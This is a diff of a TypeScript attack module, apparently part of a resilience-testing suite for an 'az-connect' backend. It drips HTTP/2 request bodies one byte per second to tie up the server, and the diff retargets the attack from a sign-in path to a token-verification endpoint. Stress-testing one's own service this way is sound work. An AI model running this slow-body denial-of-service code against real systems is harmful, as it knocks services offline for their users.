@@ -1,16 +1,17 @@
 import { type ClientHttp2Session, connect } from 'node:http2';
 import { setTimeout as wait } from 'node:timers/promises';
 import { type Attack, serviceFaults } from './attack.ts';
-import { signInPath } from './forged-addresses.ts';
 
 const slowCount = 50;
-const body = Buffer.from(JSON.stringify({ email: 'demo@az-connect.test', password: 'Demo-2026!' }));
+/** A call with a body that opens no session: a member's oldest session ends when too many are open. */
+const path = '/az-connect-backend/api/verify-token';
+const body = Buffer.from(JSON.stringify({ access_token: 'none' }));
 
-/** Starts a sign-in and sends one byte every second. Calls back when the origin ends it. */
+/** Starts a call and sends one byte every second. Calls back when the origin ends it. */
 function drip(session: ClientHttp2Session, onEnd: () => void) {
   const stream = session.request({
     ':method': 'POST',
-    ':path': signInPath,
+    ':path': path,
     'content-type': 'application/json',
     'content-length': '100000',
   });
@@ -24,12 +25,12 @@ function drip(session: ClientHttp2Session, onEnd: () => void) {
   return stream;
 }
 
-const signIn = (session: ClientHttp2Session): Promise<number> =>
+const call = (session: ClientHttp2Session): Promise<number> =>
   new Promise((settle) => {
     if (session.destroyed || session.closed) return settle(0);
     const stream = session.request({
       ':method': 'POST',
-      ':path': signInPath,
+      ':path': path,
       'content-type': 'application/json',
     });
     stream.once('response', ({ ':status': status = 0 }) => settle(status));
@@ -57,11 +58,11 @@ export const slowBodies: Attack = {
         });
       const deadline = performance.now() + seconds * 1000;
       while (performance.now() < deadline && (ended < slowCount || !isShort)) {
-        if ((await signIn(session)) === 200) answered += 1;
+        if ((await call(session)) === 200) answered += 1;
         else failed += 1;
         await wait(500);
       }
-      if ((await signIn(session)) === 200) answered += 1;
+      if ((await call(session)) === 200) answered += 1;
       else failed += 1;
     });
     session.destroy();
